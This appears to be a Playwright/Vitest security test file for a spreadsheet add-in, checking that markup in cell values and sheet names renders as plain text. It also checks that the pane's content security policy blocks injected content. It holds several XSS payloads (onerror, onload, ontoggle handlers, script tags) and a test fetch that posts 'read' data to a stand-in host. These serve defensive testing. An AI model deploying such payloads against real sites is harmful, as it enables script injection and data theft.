import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createExcelHost } from '../excel-host/host';
import { cellOf, createWorkbook, sheetNamed } from '../excel-host/model';
import { buildSite, openBuiltPane } from '../excel-host/open-built-pane';
import { countedCells } from '../pane/counted-sheets';
import { firstUnitRow, rawCells } from '../pane/raw-sheets';
import { buildCode, buildSidebar, type BuiltCode } from '../sheets-host/built-code';
import { addSheet, workbookOf } from '../sheets-host/filled-workbook';
import { openSidebar } from '../sheets-host/open-sidebar';
import { closePages, sharedBrowser } from './browser';

let browser: Browser;
let site: string;
let code: BuiltCode;
let html: string;
beforeAll(async () => {
  [browser, site, code, html] = await Promise.all([sharedBrowser(), buildSite(), buildCode(), buildSidebar()]);
}, 300_000);
afterAll(async () => {
  await closePages(browser);
});

const attack = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
/** Names that Excel allows for sheets: at most 31 characters, none of them a slash. */
const sheets = {
  raw: '<img src=x onerror=hacked=1>',
  compared: '"><svg onload=hacked=1>',
  counts: '<iframe onload=hacked=1>',
};
const caption = '<details ontoggle="window.hacked=1" open>';

/** The sheet behind the report; the unit with the lowest marks, which every list of the report names, has the attack for a name. */
function attackingCells(): ReturnType<typeof rawCells> {
  const cells = rawCells();
  const worst = cells.findIndex((row) => row[1] === 'PHÚ LONG');
  expect(worst).toBeGreaterThanOrEqual(firstUnitRow);
  cells[worst] = (cells[worst] ?? []).map((value, column) => (column === 1 ? attack : value));
  cells[2]?.push(caption);
  return cells;
}

const button = (page: Page, name: string): ReturnType<Page['getByRole']> =>
  page.getByRole('button', { name, exact: true });

/** Nothing ran, and nothing on the page, shadow trees included, was made out of what a cell or a sheet's name says. */
async function harmless(page: Page): Promise<void> {
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  const made = page.locator('#pane').locator('img, iframe, script, [onerror], [onload], [ontoggle]');
  expect(await made.evaluateAll((elements) => elements.map((element) => element.tagName))).toEqual([]);
}

async function unfold(page: Page): Promise<void> {
  await page.evaluate(() => {
    for (const details of document.querySelectorAll('details')) details.open = true;
  });
}

/** From the choice of the sheets to the draft of the report; every place that shows a hostile name shows it as it stands in the cell. */
async function wholeJob(page: Page): Promise<void> {
  page.setDefaultTimeout(10_000);
  await page.getByLabel('Trang số liệu thô').selectOption(`sheet:${sheets.raw}`);
  await page.getByLabel('So sánh với').selectOption(`sheet:${sheets.compared}`);
  await page.locator('.grades').waitFor();
  await page.locator('.severity-warning, .severity-info').getByText(attack).first().waitFor({ state: 'attached' });
  await unfold(page);
  await page.locator('.unit-changes').getByText(attack).first().waitFor();
  await harmless(page);

  await button(page, 'Lập Phụ lục 1').click();
  await button(page, 'Xem trang').waitFor();
  await harmless(page);

  await page.getByRole('tab', { name: 'Báo cáo' }).click();
  await page.getByRole('region', { name: 'Nội dung dự thảo báo cáo' }).getByText(attack).first().waitFor();
  await harmless(page);
}

async function chosenText(page: Page, label: string): Promise<string> {
  return page.getByLabel(label).evaluate((list) => (list as HTMLSelectElement).selectedOptions[0]?.textContent ?? '');
}

test('in Excel: a unit, a column and sheets whose names are markup stay text from the choice to the draft of the report', async () => {
  const workbook = createWorkbook({
    [sheets.raw]: attackingCells(),
    [sheets.compared]: rawCells('04', false),
    [sheets.counts]: countedCells({ [attack]: 1002, 'UBND xã Phú An': 1200 }),
  });
  const { page, complaints } = await openBuiltPane(browser, site, createExcelHost(workbook, 14), {
    locale: 'vi-VN',
    excelApi: 14,
    width: 320,
  });
  await page.locator('.grades').waitFor();
  await wholeJob(page);
  expect(await chosenText(page, 'Trang số liệu thô')).toContain(sheets.raw);
  expect(await chosenText(page, 'So sánh với')).toContain(sheets.compared);
  const painted = Array.from({ length: 30 }, (_, row) => cellOf(sheetNamed(workbook, 'Phụ lục 1'), row, 1)).filter(
    ({ value }) => value === attack,
  );
  expect(painted.map(({ formula }) => formula)).toEqual([null]);

  await page.getByRole('tab', { name: 'Lập bảng' }).click();
  await page.getByLabel('Trang số liệu thô').selectOption(`sheet:${sheets.counts}`);
  await page.getByRole('tab', { name: 'Công cụ' }).click();
  await page.getByLabel('Đơn vị', { exact: true }).selectOption({ label: attack });
  await page.getByRole('region', { name: 'Cần làm gì', exact: true }).getByText(`“${attack}” cần gì để đạt`).waitFor();
  await harmless(page);

  expect(complaints).toEqual([]);
  await page.context().close();
});

test('in Excel: the page’s content policy would stop markup that got through: no inline script, no handler, no way out', async () => {
  const { page, complaints } = await openBuiltPane(
    browser,
    site,
    createExcelHost(createWorkbook({ 'Tuần 01': rawCells() }), 14),
    { locale: 'vi-VN', excelApi: 14 },
  );
  await page.locator('.grades').waitFor();
  expect(complaints).toEqual([]);
  const stopped = await page.evaluate(async () => {
    const seen: string[] = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      seen.push(`${effectiveDirective} ${blockedURI.replace(/(?<=test)\/.*$/u, '')}`),
    );
    const script = document.createElement('script');
    script.textContent = 'window.hacked = 1';
    const handled = document.createElement('p');
    handled.setAttribute('onclick', 'window.hacked = 1');
    const frame = document.createElement('iframe');
    frame.src = 'https://elsewhere.test/frame';
    const picture = document.createElement('img');
    picture.src = 'https://elsewhere.test/?what=was-read';
    document.body.append(script, handled, frame, picture);
    handled.click();
    const sent = await fetch('https://elsewhere.test/', { method: 'POST', body: 'what was read' }).then(
      () => true,
      () => false,
    );
    for (let turn = 0; turn < 100 && seen.length < 5; turn++) await new Promise((done) => requestAnimationFrame(done));
    return { seen: seen.sort(), sent, hacked: 'hacked' in window };
  });
  expect(stopped).toEqual({
    seen: [
      'connect-src https://elsewhere.test',
      'frame-src https://elsewhere.test',
      'img-src https://elsewhere.test',
      'script-src-attr inline',
      'script-src-elem inline',
    ],
    sent: false,
    hacked: false,
  });
  expect(complaints.filter((complaint) => complaint.startsWith('request:'))).toEqual([]);
  await page.context().close();
});

test('in Google Sheets: the same names stay text in the sidebar, which has no policy of ours to lean on', async () => {
  const grid = (sheet: string, cells: ReturnType<typeof rawCells>) => ({
    sheet,
    cells,
    merges: [],
    percentCells: new Set<string>(),
    hiddenRows: [],
  });
  const workbook = workbookOf(grid(sheets.raw, attackingCells()));
  addSheet(workbook, grid(sheets.compared, rawCells('04', false)));
  const page = await openSidebar(browser, { code, html, workbook, refusal: null });
  await page.locator('.grades').waitFor();
  await wholeJob(page);
  expect(await chosenText(page, 'Trang số liệu thô')).toContain(sheets.raw);
  await page.context().close();
});
